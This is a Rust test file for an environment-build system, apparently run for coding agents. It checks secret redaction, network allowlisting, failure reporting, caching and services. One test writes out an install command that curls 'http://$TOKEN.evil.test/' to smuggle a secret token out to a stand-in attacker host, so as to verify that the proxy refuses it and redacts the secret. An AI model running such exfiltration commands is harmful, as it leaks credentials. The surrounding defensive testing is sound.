//! Builds: what stays of an installation, what goes, and how one that fails is told.

use std::time::Duration;

use domain::{
    FaultClass,
    environment::{Health, Stage},
    ports::{
        environments::{Environments as _, Start},
        sandbox::{Confinement, Exit},
        workspace::Workspaces as _,
    },
};

use crate::{
    registry::HOST,
    world::{World, fetch},
};

const SECRET: &str = "s3cret-of-the-registry";

fn definition(rest: &str) -> String {
    format!("[environment]\n{rest}\n[environment.secrets]\nTOKEN = \"install\"\n")
}

#[tokio::test]
async fn what_is_installed_stays_and_secrets_go() {
    let fetch = fetch("package").replace("--fail", r#"--fail --header "authorization: $TOKEN""#);
    let lines = format!(
        "install = ['''echo token is $TOKEN; mkdir -p out && {fetch} > out/package''', \
         'echo changed > tracked.txt; echo of HOME > ~/tool', 'printf %s \"_authToken=$TOKEN\" > ~/.npmrc']\n\
         install_network = ['{HOST}']"
    );
    let world = World::of(&[("overnight.toml", &definition(&lines)), ("tracked.txt", "as it is\n")]).await;
    world.secret("TOKEN", SECRET, Stage::Staging).await;
    let check = "test -z \"$TOKEN\" && ! test -e ~/.npmrc && cat out/package && echo warm > out/cache";
    let built = world.build(&[check], Start::Newest).await.unwrap();

    let [asked] = &world.registry.asked()[..] else { panic!("{:?}", world.registry.asked()) };
    assert!(asked.contains(&format!("authorization: {SECRET}")), "{asked}");
    assert_eq!((&built.used.health, &built.left_out[..]), (&Health::Healthy, &["tracked.txt".to_owned()][..]));
    let log = world.log(built.log.clone()).await;
    assert!(log.contains("token is [TOKEN redacted]") && !log.contains(SECRET), "{log}");
    assert!(log.contains("~/.npmrc held a secret of the installation: removed"), "{log}");
    assert!(world.told().iter().any(|line| line.starts_with("installing: `echo token")), "{:?}", world.told());

    let see = "cat out/package out/cache tracked.txt ~/tool; ls -A ~/.npmrc; env; git status --short";
    let (seen, _) = world.run(built.used.layer.clone(), see).await;
    assert!(seen.starts_with("package\nwarm\nas it is\nof HOME\n"), "{seen}");
    assert!(!seen.contains(SECRET) && !seen.contains("TOKEN") && !seen.contains("tracked.txt"), "{seen}");

    let layers = world.environments.layers(world.origin().await.0).await.unwrap();
    assert_eq!((layers[0].source.as_str(), &layers[0].health), ("overnight.toml", &Health::Healthy));
}

#[tokio::test]
async fn a_secret_that_was_left_stops_the_build() {
    let lines = "install = ['mkdir -p out && echo \"key: $TOKEN\" > out/settings', 'echo fine > out/other']";
    let world = World::of(&[("overnight.toml", &definition(lines))]).await;
    world.secret("TOKEN", SECRET, Stage::Staging).await;
    let fault = world.build(&["true"], Start::Newest).await.unwrap_err();
    assert!(fault.what.contains("a secret of the installation was left in out/settings:"), "{fault}");
    assert!(fault.what.contains("\nthe whole log: `overnight env log "), "{fault}");
    assert!(!fault.to_string().contains(SECRET));
    assert!(world.environments.layers(world.origin().await.0).await.unwrap().is_empty());
}

#[tokio::test]
async fn a_secret_in_what_is_asked_of_the_proxy_is_told_to_nobody() {
    const MIXED: &str = "S3cretOfTheRegistry";
    let lines = r#"install = ['curl --silent "http://$TOKEN.evil.test/"; true']"#;
    let world = World::of(&[("overnight.toml", &definition(lines))]).await;
    world.secret("TOKEN", MIXED, Stage::Staging).await;
    let built = world.build(&[], Start::Newest).await.unwrap();
    let told = format!("{:?}", built.refused);
    assert!(told.contains("[TOKEN redacted].evil.test"), "{told}");
    assert!(!told.to_lowercase().contains(&MIXED.to_lowercase()), "{told}");
}

#[tokio::test]
async fn a_failing_line_is_told_with_its_last_words() {
    let world =
        World::of(&[("overnight.toml", "[environment]\ninstall = ['echo first', 'seq 30; exit 3', 'echo no']")]).await;
    let fault = world.build(&["true"], Start::Newest).await.unwrap_err();
    assert_eq!(fault.class, FaultClass::Environment);
    assert!(fault.what.contains("`seq 30; exit 3` ended with exit code 3\nIt printed:\n1\n2\n3\n4\n5\n6\n"), "{fault}");
    assert!(fault.what.contains("6\n…\n11\n12\n"), "{fault}");
    let (_, id) = fault.what.rsplit_once("\nthe whole log: `overnight env log ").unwrap();
    let log = world.log(Some(domain::check::BlobId(id.trim_end_matches('`').to_owned()))).await;
    assert!(log.starts_with("$ echo first\nfirst\n$ seq 30; exit 3\n1\n") && !log.contains("echo no"), "{log}");
    let (repository, _) = world.origin().await;
    assert!(world.workspaces.environments(repository).await.unwrap().is_empty());
    // It can be tried again at once.
    assert!(world.build(&["true"], Start::Newest).await.is_err());
}

#[tokio::test]
async fn a_blocked_host_is_named_with_the_line_to_add() {
    let line = fetch("package").replace(HOST, "other.test");
    let text = format!("[environment]\ninstall = '{line}'\ninstall_network = ['{HOST}']");
    let world = World::of(&[("overnight.toml", &text)]).await;
    let fault = world.build(&[], Start::Newest).await.unwrap_err();
    assert!(fault.what.contains(&format!("\nblocked: other.test:80 by `{}", &line[..20])), "{fault}");
    let add =
        format!("in overnight.toml, as the line of [environment]:\ninstall_network = [\"{HOST}\",\"other.test\"]");
    assert!(fault.hint.as_ref().unwrap().ends_with(&add), "it is to be copied as it is: {fault}");

    // Another file would be set aside: its lines are written down too.
    world.commit(&[
        ("overnight.toml", "[checks]"),
        (".cursor/environment.json", &format!("{{\"install\": \"{line}\"}}")),
    ]);
    let fault = world.build(&[], Start::Newest).await.unwrap_err();
    let add = format!(
        "overnight.toml, which takes the place of .cursor/environment.json:\n[environment]\n\
         install_network = [\"other.test\"]\ninstall = [\"{line}\"]"
    );
    assert!(fault.hint.as_ref().unwrap().contains(&add), "{fault}");
    assert!(world.registry.asked().is_empty());
}

#[tokio::test]
async fn a_line_that_hangs_is_ended_and_said_so() {
    let world = World::tuned(|options| options.deadline = Duration::from_millis(300)).await;
    world.commit(&[("overnight.toml", "[environment]\ninstall = 'echo waiting; sleep 1000'")]);
    let fault = world.build(&[], Start::Newest).await.unwrap_err();
    assert!(fault.what.contains("did not end: installing may take 300 ms"), "{fault}");
    assert!(fault.what.contains("\nIt printed:\nwaiting"), "{fault}");
}

#[tokio::test]
async fn a_base_that_fails_its_checks_is_unhealthy_and_told() {
    let world = World::of(&[("overnight.toml", "[environment]\ninstall = 'touch built'")]).await;
    let built = world.build(&["echo broken indeed; false", "touch second"], Start::Newest).await.unwrap();
    let Health::Unhealthy { why, log } = &built.used.health else { panic!("{built:?}") };
    assert_eq!(why, "On the base, `echo broken indeed; false` ended with exit code 1: broken indeed");
    assert!(world.log(log.clone()).await.contains("$ touch second"), "all caches are warmed");

    // Looked at again, with what it says kept; a host that was blocked is named.
    let reaches = fetch("x");
    let checked = world.environments.check(world.request(&[&reaches]).await).await.unwrap();
    let why = checked.health.ill().unwrap();
    assert!(why.contains(&format!("(blocked: {HOST}:80; checks reach what `network` in [checks] names)")), "{why}");
    let checked = world.environments.check(world.request(&["test -e built"]).await).await.unwrap();
    assert_eq!((checked.health, checked.layer, checked.note), (Health::Healthy, built.used.layer.clone(), None));
    let provided = world.environments.provide(world.request(&[]).await).await.unwrap();
    assert_eq!(provided.health, Health::Healthy);
    let layers = world.environments.layers(world.origin().await.0).await.unwrap();
    assert_eq!(layers[0].health, Health::Healthy);
}

#[tokio::test]
async fn services_run_while_the_base_is_judged() {
    let serve = "[environment]\ninstall = 'mkdir -p www && echo served > www/page'\n[[environment.service]]\n\
        name = 'web'\ncommand = 'python3 -m http.server 8000 -d www'\nready = { http = 'http://localhost:8000/page' }\n";
    let world = World::of(&[("overnight.toml", serve)]).await;
    let check = "curl --noproxy '*' --silent --fail http://localhost:8000/page | grep served";
    let built = world.build(&[check], Start::Newest).await.unwrap();
    assert_eq!(built.used.health, Health::Healthy, "{}", world.log(built.log).await);
}

#[tokio::test]
async fn from_nothing_keeps_caches_only() {
    let lines = "install = 'mkdir -p ~/cache; echo new >> ~/cache/kept; echo new >> ~/gone; mkdir -p a/b; echo new >> a/b/kept; echo new >> a/gone'";
    let world =
        World::of(&[("overnight.toml", &format!("[environment]\n{lines}\ncaches = ['~/cache', 'a/b']\n"))]).await;
    let first = world.build(&[], Start::Nothing).await.unwrap();
    let count = "cat ~/cache/kept | wc -l; cat ~/gone | wc -l; cat a/b/kept | wc -l; cat a/gone | wc -l";
    assert_eq!(world.run(first.used.layer.clone(), count).await.0, "1\n1\n1\n1\n");
    let over = world.build(&[], Start::Newest).await.unwrap();
    assert_eq!(world.run(over.used.layer.clone(), count).await.0, "2\n2\n2\n2\n");
    let anew = world.build(&[], Start::Nothing).await.unwrap();
    assert_eq!(world.run(anew.used.layer.clone(), count).await.0, "3\n1\n3\n1\n");
    assert!(first.used.layer != over.used.layer && over.used.layer != anew.used.layer);
}

#[tokio::test]
async fn nothing_to_install_and_nothing_to_check_is_no_environment() {
    let world = World::of(&[("README.md", "hello")]).await;
    let fault = world.build(&[], Start::Newest).await.unwrap_err();
    assert_eq!(fault.class, FaultClass::Input);
    // A check alone warms caches.
    world.commit(&[(".gitignore", "cache")]);
    let built = world.build(&["echo warm > cache"], Start::Newest).await.unwrap();
    assert_eq!(world.run(built.used.layer.clone(), "cat cache").await, ("warm\n".to_owned(), Exit::Code(0)));
    let provided = world.environments.provide(world.request(&[]).await).await.unwrap();
    assert_eq!(provided.layer, built.used.layer, "once a person built one, tasks are given it");
}

#[tokio::test]
async fn a_venv_s_programs_are_found_first() {
    let text = "[environment]\ninstall = 'mkdir -p .venv/bin; printf \"#!/bin/sh\\necho mine\" > .venv/bin/python3; \
        chmod +x .venv/bin/python3'\nvariables = { PATH = '/workspace/.venv/bin' }";
    let world = World::of(&[("overnight.toml", text)]).await;
    let built = world.build(&["test \"$(python3)\" = mine"], Start::Newest).await.unwrap();
    assert_eq!(built.used.health, Health::Healthy);
    assert_eq!(world.run(built.used.layer, "python3; ls -d .").await.0, "mine\n.\n");
}

#[tokio::test]
async fn plain_processes_get_an_environment_of_their_own() {
    let text = "[environment]\ninstall = 'echo echo mine > tool; chmod +x tool; echo $HOME > ~/home'\n\
        variables = { PATH = '/workspace' }";
    let mut world = World::of(&[("overnight.toml", text)]).await;
    let confined = world.build(&[], Start::Newest).await.unwrap();
    world.confinement = Confinement::Unconfined;
    let plain = world.environments.provide(world.request(&["tool"]).await).await.unwrap();
    assert!(plain.layer != confined.used.layer && plain.health == Health::Healthy, "{plain:?}");
    let (said, _) = world.run(plain.layer, "tool; cat ~/home").await;
    assert!(said.starts_with("mine\n/") && !said.contains("/home/agent"), "{said}");
}

#[tokio::test]
async fn the_first_command_of_a_task_compiles_nothing_again() {
    let manifest = "[package]\nname = \"sample\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
    let lock = "version = 4\n\n[[package]]\nname = \"sample\"\nversion = \"0.1.0\"\n";
    let source = "pub fn one() -> u8 { 1 }\n#[test]\nfn is_one() { assert_eq!(one(), 1) }\n";
    let files = [("Cargo.toml", manifest), ("Cargo.lock", lock), ("src/lib.rs", source), (".gitignore", "target")];
    let world = World::of(&files).await;
    let built = world.build(&["cargo test"], Start::Newest).await.unwrap();
    assert_eq!(built.used.health, Health::Healthy, "{}", world.log(built.log).await);
    let (said, exit) = world.run(built.used.layer, "cargo check --all-targets && cargo test").await;
    assert_eq!(exit, Exit::Code(0), "{said}");
    assert!(!said.contains("Compiling") && !said.contains("Checking") && said.contains("Finished"), "{said}");

    // A lock file that does not match is told as the package manager tells it.
    world.commit(&[("Cargo.toml", &manifest.replace("0.1.0", "0.2.0"))]);
    let fault = world.build(&["cargo test"], Start::Newest).await.unwrap_err();
    assert!(fault.what.contains("`cargo fetch --locked` ended with exit code 101"), "{fault}");
    assert!(fault.what.contains("because --locked was passed"), "{fault}");
}
